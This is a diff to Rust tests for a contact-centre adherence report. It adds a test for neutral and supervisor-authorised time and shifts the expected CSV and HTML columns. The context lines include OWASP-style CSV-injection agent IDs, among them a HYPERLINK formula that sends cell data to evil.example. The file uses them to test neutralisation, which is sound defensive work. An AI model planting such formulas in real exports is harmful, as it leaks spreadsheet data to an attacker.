@@ -63,13 +63,22 @@ fn attempt(
 }
 
 async fn enter(store: &Store, agent: &str, state: AgentState, at: DateTime<Utc>) {
+    enter_with(store, agent, (state, None), at).await;
+}
+
+async fn enter_with(
+    store: &Store,
+    agent: &str,
+    (state, reason): (AgentState, Option<&str>),
+    at: DateTime<Utc>,
+) {
     let mut tx = store.begin_write().await.unwrap();
     history::switch_state(
         &mut tx,
         &NewInterval {
             agent_id: agent,
             state,
-            reason: None,
+            reason,
             origin: Origin::Observed,
             at,
             attempt_id: None,
@@ -261,6 +270,8 @@ async fn every_number_of_the_report_matches_the_hand_computed_fixture(backend: B
             scheduled_seconds: None,
             in_adherence_seconds: None,
             unobserved_seconds: None,
+            neutral_seconds: None,
+            authorised_seconds: None,
             adherence_exceptions: None,
         }
     );
@@ -611,7 +622,8 @@ async fn adherence_matches_the_hand_computed_fixture_in_every_format(backend: Ba
     assert!(html.contains("<th>Adherence exceptions</th>"));
     assert!(
         html.contains(
-            "<td>83.3</td><td>1:00:00</td><td>0:50:00</td><td>0:00:00</td><td>2</td><td>20</td>"
+            "<td>83.3</td><td>1:00:00</td><td>0:50:00</td><td>0:00:00</td><td>0:00:00</td>\
+             <td>0:00:00</td><td>2</td><td>20</td>"
         ),
         "durations read as h:mm:ss: {html}"
     );
@@ -711,6 +723,112 @@ async fn an_agent_first_seen_at_14_00_is_judged_on_the_afternoon_in_every_format
     );
 }
 
+#[apply(backends)]
+#[tokio::test]
+async fn authorised_and_neutral_time_are_reported_on_their_own_and_left_out_of_adherence(
+    backend: Backend,
+) {
+    use crate::domain::adherence::Shift;
+    use crate::store::authorisations::{self, AuthorisationRow};
+    use crate::store::schedules::{self, BreakSource, StoredShift};
+    let (store, _dir) = adherence_fixture(backend).await;
+    // a7 works 09:00-17:00: READY, in a meeting 11:00-12:00 (neutral by a rule), on a
+    // break 12:00-13:00 of which a supervisor authorised 12:00-12:30, READY again.
+    enter(&store, "a7", AgentState::Ready, minutes(0)).await;
+    enter_with(
+        &store,
+        "a7",
+        (AgentState::NotReady, Some("MEETING")),
+        minutes(120),
+    )
+    .await;
+    enter_with(
+        &store,
+        "a7",
+        (AgentState::NotReady, Some("BREAK")),
+        minutes(180),
+    )
+    .await;
+    enter(&store, "a7", AgentState::Ready, minutes(240)).await;
+    let mut tx = store.begin_write().await.unwrap();
+    schedules::save(
+        &mut tx,
+        &[StoredShift {
+            agent_id: "a7".into(),
+            shift: Shift {
+                start: minutes(0),
+                end: minutes(480),
+                breaks: vec![],
+            },
+            timezone: None,
+            breaks_from: BreakSource::Schedule,
+            fetched_at: minutes(-120),
+        }],
+    )
+    .await
+    .unwrap();
+    let authorisation = |id: &str, withdrawn_at| AuthorisationRow {
+        id: id.into(),
+        agents: r#"["a7"]"#.into(),
+        team: None,
+        from_at: to_ms(minutes(180)),
+        to_at: to_ms(minutes(210)),
+        reason: "coaching ran over".into(),
+        created_by: "desk".into(),
+        created_at: to_ms(minutes(200)),
+        withdrawn_at,
+        withdrawn_by: withdrawn_at.map(|_| "desk".to_owned()),
+    };
+    authorisations::insert(&mut tx, &authorisation("auth-1", None))
+        .await
+        .unwrap();
+    // A withdrawn one (the whole break) counts no more.
+    let withdrawn = AuthorisationRow {
+        to_at: to_ms(minutes(240)),
+        ..authorisation("auth-0", Some(to_ms(minutes(205))))
+    };
+    authorisations::insert(&mut tx, &withdrawn).await.unwrap();
+    tx.commit().await.unwrap();
+    let judging: crate::config::ComplianceConfig = toml::from_str(
+        "[[rules]]\nactivity = \"shift\"\nstates = [\"NOT_READY:MEETING\"]\nverdict = \"neutral\"\n",
+    )
+    .unwrap();
+    let judging = judging.judging().unwrap();
+    let day = Window {
+        from: minutes(-540),
+        to: minutes(900),
+    };
+    let report = Report::build(store.reader(), day, minutes(480), None, &judging)
+        .await
+        .unwrap();
+    let a7 = report.agents.iter().find(|a| a.agent_id == "a7").unwrap();
+    assert_eq!(a7.scheduled_seconds, Some(8.0 * 3600.0));
+    assert_eq!(a7.neutral_seconds, Some(3600.0));
+    assert_eq!(a7.authorised_seconds, Some(1800.0));
+    assert_eq!(a7.in_adherence_seconds, Some(6.0 * 3600.0));
+    assert_eq!(a7.unobserved_seconds, Some(0.0));
+    // 6 h in adherence of 6.5 h judged (8 h less the neutral hour and authorised half).
+    assert_eq!(a7.adherence_pct, Some(6.0 * 100.0 / 6.5));
+    assert_eq!(a7.adherence_exceptions, Some(1), "12:30-13:00 not working");
+
+    let csv = render(&store, &report, Format::Csv).await.text();
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
+    let row = reader
+        .records()
+        .map(|r| r.unwrap())
+        .find(|r| &r[0] == "a7")
+        .unwrap();
+    assert_eq!(&row[column("neutral_seconds")], "3600");
+    assert_eq!(&row[column("authorised_seconds")], "1800");
+    let html = render(&store, &report, Format::Html).await.text();
+    assert!(
+        html.contains("<td>92.3</td><td>8:00:00</td><td>6:00:00</td><td>0:00:00</td><td>0:30:00</td><td>1:00:00</td><td>1</td>"),
+        "{html}"
+    );
+}
+
 /// Agent ids a spreadsheet would run as formulas (OWASP's CSV injection examples).
 pub(crate) const FORMULA_IDS: [&str; 6] = [
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
@@ -771,7 +889,7 @@ async fn csv_neutralises_agent_ids_a_spreadsheet_would_run_as_formulas(backend: 
 
 #[apply(backends)]
 #[tokio::test]
-async fn csv_has_name_and_team_as_the_last_columns_empty_when_unknown(backend: Backend) {
+async fn csv_has_name_and_team_after_the_window_empty_when_unknown(backend: Backend) {
     let (store, _dir) = fixture(backend).await;
     let report = build(&store, minutes(120)).await;
     let text = render(&store, &report, Format::Csv).await.text();
@@ -783,14 +901,23 @@ async fn csv_has_name_and_team_as_the_last_columns_empty_when_unknown(backend: B
         "old columns stay put"
     );
     assert_eq!(
-        headers[headers.len() - 5..],
-        ["from", "to", "name", "team_id", "team"]
+        headers[headers.len() - 7..],
+        [
+            "from",
+            "to",
+            "name",
+            "team_id",
+            "team",
+            "neutral_seconds",
+            "authorised_seconds"
+        ],
+        "new columns go at the end"
     );
     let rows: Vec<Vec<String>> = reader
         .records()
         .map(|r| r.unwrap().iter().map(Into::into).collect())
         .collect();
-    let tail = |row: &Vec<String>| row[row.len() - 3..].to_vec();
+    let tail = |row: &Vec<String>| row[row.len() - 5..row.len() - 2].to_vec();
     assert_eq!(tail(&rows[0]), ["Ada Lovelace", "t_1", "Care"]);
     assert_eq!(tail(&rows[1]), ["", "", ""], "a2 was never listed");
     assert_eq!(tail(&rows[2]), ["Grace Hopper", "", ""]);
@@ -809,7 +936,7 @@ async fn csv_neutralises_names_and_teams_a_spreadsheet_would_run_as_formulas(bac
         .next()
         .unwrap()
         .unwrap();
-    let tail: Vec<&str> = row.iter().skip(row.len() - 3).collect();
+    let tail: Vec<&str> = row.iter().skip(row.len() - 5).take(3).collect();
     assert_eq!(
         tail,
         [format!("'{hyperlink}").as_str(), "'+t_1", "'@SUM(1)"],
@@ -866,7 +993,7 @@ fn page_order(html: &str) -> Vec<String> {
     let table = &table[..table.find("</table>").unwrap()];
     let mut order = Vec::new();
     for piece in table.split("<tr class=\"").skip(1) {
-        if let Some(rest) = piece.strip_prefix("team\"><th colspan=\"13\">") {
+        if let Some(rest) = piece.strip_prefix("team\"><th colspan=\"15\">") {
             let name = &rest[..rest.find([' ', '<']).unwrap()];
             order.push(format!("team {name}"));
         } else if let Some(rest) = piece.strip_prefix("agent\" data-agent=\"") {
